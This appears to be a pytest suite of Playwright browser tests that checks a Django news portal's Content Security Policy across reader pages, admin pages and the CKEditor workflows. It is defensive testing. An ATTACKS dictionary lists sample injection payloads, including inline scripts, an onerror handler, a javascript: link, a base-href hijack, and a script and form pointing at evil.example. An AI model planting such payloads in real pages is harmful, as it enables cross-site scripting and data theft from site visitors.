"""What a real browser refuses: nothing on our pages as they are, everything that was put into them.

Each violation and each error of the console is noted, in pages, frames and windows that they open.
"""

import base64

import pytest

from tests.browser.conftest import follow, sign_in, wait_in
from tests.browser.test_editor import editor_body
from tests.factories import picture
from tests.server import wait_until

pytestmark = pytest.mark.browser

LISTEN = """addEventListener("securitypolicyviolation", (event) => window.refused(
    [event.effectiveDirective, event.blockedURI, event.sourceFile, event.sample].join(" ")));"""
NOT_FOUND = "Failed to load resource: the server responded with a status of 404"
OF_THE_EDITOR = "addRange(): The given range isn't in document."  # said when it pastes


@pytest.fixture
def watched(new_page):
    """(a page, the list of what the browser refused or complained of in its whole context)"""
    page, refused = new_page(), []
    page.context.expose_binding("refused", lambda source, what: refused.append(what))
    page.context.add_init_script(LISTEN)

    def hear(said):
        if said.type in ("error", "warning") and said.text != OF_THE_EDITOR:
            refused.append(said.text)

    page.context.on("console", hear)
    return page, refused


def settled(page):
    page.wait_for_load_state("load")
    page.wait_for_timeout(100)  # ms; a page that may run no script tells of no event


def test_nothing_of_a_reader_s_page_is_refused(portal, watched, pages, notices):
    page, refused = watched
    found = {}
    for kind, path in pages.items():
        page.goto(portal.url + path)
        page.emulate_media(media="print")
        page.emulate_media(media="screen", color_scheme="dark")
        settled(page)
        lacks = kind in ("404", "hostile article")  # itself, its pictures
        if lacks:  # what comes late is not the next page's
            page.wait_for_load_state("networkidle")
        said = [one for one in refused if not (lacks and one.startswith(NOT_FOUND))]
        if said:
            found[kind] = said
        refused.clear()
    assert found == {}


OPENED = [
    "/rss/", "/atom/", "/json/", "/sitemap.xml", "/api/", "/api/openapi.json", "/api/bai-viet/",
    "/robots.txt", "/.well-known/security.txt", "/healthz", "/static/img/favicon.svg",
    "/static/css/main.css",
]  # fmt: skip


def test_nothing_of_what_is_no_page_is_refused(portal, watched):
    page, refused = watched
    page.goto(portal.url + "/")
    poster = page.get_attribute("meta[property='og:image']", "content")
    for address in [poster, *(portal.url + path for path in OPENED)]:
        assert page.goto(address).status == 200
        settled(page)
    assert refused == []


ATTACKS = {
    "an inline script": "<script>window.harmed = 1</script>",
    "an attribute": "<img src='/x' onerror='window.harmed = 1'>",
    "a script from elsewhere": "<script src='https://evil.example/a.js'></script>",
    "a frame": "<iframe src='/'></iframe>",
    "a style": "<style>h1 { display: none }</style>",
    "a form": "<form action='https://evil.example/' id='lure'><button>x</button></form>",
    "a base": "<base href='https://evil.example/'>",
    "a picture": "<img src='https://evil.example/a.png'>",
    "an object": "<object data='/static/img/favicon.svg'></object>",
    "a link of script": "<a id='lure' href='javascript:window.harmed = 1'>x</a>",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_was_put_into_a_page_is_refused_and_reported(portal, watched, name):
    """The proof that the tests above can fail."""
    page, refused = watched

    def with_attack(route):
        answer = route.fetch()
        body = answer.text().replace("</main>", ATTACKS[name] + "</main>")
        route.fulfill(response=answer, body=body)

    page.route(f"{portal.url}/lien-he/", with_attack)
    page.goto(f"{portal.url}/lien-he/")
    if page.locator("#lure").count():
        page.evaluate("(document.getElementById('lure').submit ?? HTMLElement.prototype.click)"
                      ".call(document.getElementById('lure'))")  # fmt: skip
    settled(page)
    assert refused
    assert page.evaluate("window.harmed") is None
    assert page.url == f"{portal.url}/lien-he/"
    count = (
        "from cantho_cchc.security.models import PolicyReport\n"
        "print(PolicyReport.objects.filter(page='/lien-he/').exclude(directive='').count())"
    )
    wait_until(lambda: int(portal.shell(count)) > 0, "the report", 10)


def test_no_script_can_turn_text_into_markup(portal, watched):
    page, refused = watched
    page.goto(portal.url + "/")
    tried = """() => {
        const kinds = {
          markup: () => { document.body.innerHTML = "<b>x</b>" },
          code: () => { setTimeout("window.harmed = 1") },
          policy: () => { trustedTypes.createPolicy("mine", { createHTML: (text) => text }) },
        };
        return Object.entries(kinds).map(([kind, does]) => {
          try { does(); return `${kind} done`; } catch (error) { return `${kind} ${error.name}`; }
        });
    }"""
    assert page.evaluate(tried) == ["markup TypeError", "code TypeError", "policy TypeError"]
    assert len(refused) >= 3


DESK = """
from django.contrib import admin
from django.urls import reverse
for model in admin.site._registry:
    name = f"admin:{model._meta.app_label}_{model._meta.model_name}"
    print(reverse(f"{name}_changelist"), reverse(f"{name}_add"), sep="\\n")
    row = model.objects.first()
    if row:
        for kind in ("change", "history", "delete"):
            print(reverse(f"{name}_{kind}", args=[row.pk]))
    print(reverse("admin:app_list", args=[model._meta.app_label]))
"""
MORE = ["", "password_change/", "bao-cao-bien-tap/", "bao-cao-luot-truy-cap/", "anh/chon/",
        "news/article/nhap-docx/", "news/article/1/duyet/", "news/article/1/lien-ket/",
        "news/article/1/go-bai/", "news/article/1/xem-truoc/"]  # fmt: skip
CLOSED = ("403", "404", "405")


def test_nothing_of_a_page_of_the_desk_is_refused(portal, watched):
    page, refused = watched
    page.goto(f"{portal.url}/quan-tri/login/")
    settled(page)
    sign_in(page, portal.url)
    paths = {*portal.shell(DESK).split(), *(f"/quan-tri/{path}" for path in MORE)}
    found, editors = {}, set()
    for path in sorted(paths):
        status = page.goto(portal.url + path).status
        settled(page)
        if page.locator("[data-type=ckeditortype]").count():
            editor_body(page).wait_for()
            editors.add(path.split("/")[3])
        said = [one for one in refused if not any(f"status of {code}" in one for code in CLOSED)]
        if said:
            found[path, status] = said
        refused.clear()
    assert found == {}
    assert editors == {"article", "page"}


def policy(answer):
    return answer.headers["content-security-policy"]


def test_only_a_form_with_the_editor_lets_inline_scripts_in(portal, page):
    sign_in(page, portal.url)
    seen = {}
    for path in ("/quan-tri/news/article/add/", "/quan-tri/news/article/1/change/",
                 "/quan-tri/news/category/add/", "/quan-tri/news/article/", "/quan-tri/",
                 "/quan-tri/news/article/1/xem-truoc/", "/", "/quan-tri/khong-co/"):  # fmt: skip
        said = policy(page.goto(portal.url + path))
        seen[path] = ("'unsafe-inline'" in said, "trusted-types" in said)
        assert "eval" not in said
    editor, desk, reader = (True, False), (False, False), (False, True)
    assert list(seen.values()) == [editor, editor, desk, desk, desk, reader, reader, reader]


PASTE_PICTURE = """(body, name) => new Promise((made) => {
    const canvas = Object.assign(document.createElement("canvas"), { width: 40, height: 30 });
    canvas.toBlob(made);
}).then((blob) => {
    const data = new DataTransfer();
    data.items.add(new File([blob], name, { type: "image/png" }));
    body.dispatchEvent(new ClipboardEvent("paste",
        { clipboardData: data, bubbles: true, cancelable: true }));
})"""
PASTE = """(body, html) => {
    const data = new DataTransfer();
    data.setData("text/html", html);
    body.dispatchEvent(new ClipboardEvent("paste",
        { clipboardData: data, bubbles: true, cancelable: true }));
}"""


@pytest.fixture
def writing(portal, watched):
    """A new article in the editor; what is refused must be nothing in the end."""
    page, refused = watched
    page.on("dialog", lambda dialog: dialog.accept())
    sign_in(page, portal.url)
    page.goto(f"{portal.url}/quan-tri/news/article/add/")
    editor_body(page).wait_for()
    editor_body(page).click()
    page.keyboard.type("Người dân được phục vụ nhanh hơn.")
    page.keyboard.press("Enter")
    yield page
    settled(page)
    assert refused == []


def opened(page, button):
    page.click(f".cke_button__{button}")
    dialog = page.locator(".cke_dialog:visible")
    dialog.wait_for()
    return dialog


def closed(page, dialog, button="ok"):
    dialog.locator(f".cke_dialog_ui_button_{button}:visible").click()
    page.locator(".cke_dialog:visible").wait_for(state="hidden")


def test_the_editor_s_buttons_and_dialogs_work(writing):
    page, body = writing, editor_body(writing)
    page.click(".cke_button__bold")
    page.keyboard.type("đậm")
    page.click(".cke_combo__format .cke_combo_button")
    page.frame_locator(".cke_combopanel iframe").locator("a").nth(1).click()
    link = opened(page, "link")
    link.get_by_label("URL").last.fill("cantho.gov.vn")
    closed(page, link)
    body.locator("a[href]").wait_for()
    page.keyboard.press("Control+End")
    page.keyboard.press("Enter")
    closed(page, opened(page, "table"))
    body.locator("td").first.click(button="right")
    page.frame_locator(".cke_menu_panel iframe").locator("a").first.wait_for()
    page.keyboard.press("Escape")
    opened(page, "find").locator(".cke_dialog_close_button").click()
    page.locator(".cke_dialog:visible").wait_for(state="hidden")
    closed(page, opened(page, "specialchar"), "cancel")
    page.click(".cke_button__maximize")
    page.click(".cke_button__maximize")
    page.click(".cke_button__source")
    source = page.locator("textarea.cke_source").input_value()
    assert "<strong>đậm" in source
    assert '<a href="http://cantho.gov.vn">' in source
    page.click(".cke_button__source")
    body.wait_for()


def test_pictures_come_into_the_editor_in_every_way(writing, tmp_path):
    page, body = writing, editor_body(writing)
    file = tmp_path / "a.jpg"
    file.write_bytes(picture(size=(900, 600)))
    dialog = opened(page, "image")
    dialog.get_by_role("tab").nth(1).click()
    dialog.frame_locator("iframe").locator("input[type=file]").set_input_files(file)
    dialog.locator("a.cke_dialog_ui_button:visible").first.click()
    address = dialog.locator("input.cke_dialog_ui_input_text").first
    wait_in(page, "e => e.value.startsWith('/media/')", address.element_handle())
    with page.expect_popup() as shelf:
        dialog.locator("a.cke_dialog_ui_button:visible").first.click()
    settled(shelf.value)
    shelf.value.locator("[data-address]").first.click()
    wait_until(shelf.value.is_closed, "the shelf to close", 10)
    closed(page, dialog, "cancel")
    data = base64.b64encode(picture("PNG", size=(8, 8))).decode()
    text = f"<p style='color: red'>Dán <img src='data:image/png;base64,{data}'></p>"
    stored = body.locator("img[src*='/media/hinh/']")
    for number, (paste, what) in enumerate([(PASTE, text), (PASTE_PICTURE, "anh.png")]):
        body.locator("p").last.click()
        body.evaluate(paste, what)
        stored.nth(number).wait_for()


def test_what_is_typed_is_shown_as_readers_get_it(writing):
    page = writing
    page.fill("#id_title", "Bài xem thử")
    page.select_option("#id_category", index=1)
    with page.expect_popup() as preview:
        page.click("input[name=_preview]")
    settled(preview.value)
    assert "Người dân" in preview.value.inner_text(".prose")
    page.wait_for_selector("text=Đã tự lưu lúc", timeout=15_000)
    follow(page, "input[name=_continue]")
    page.wait_for_selector(".messagelist .success")
    editor_body(page).wait_for()
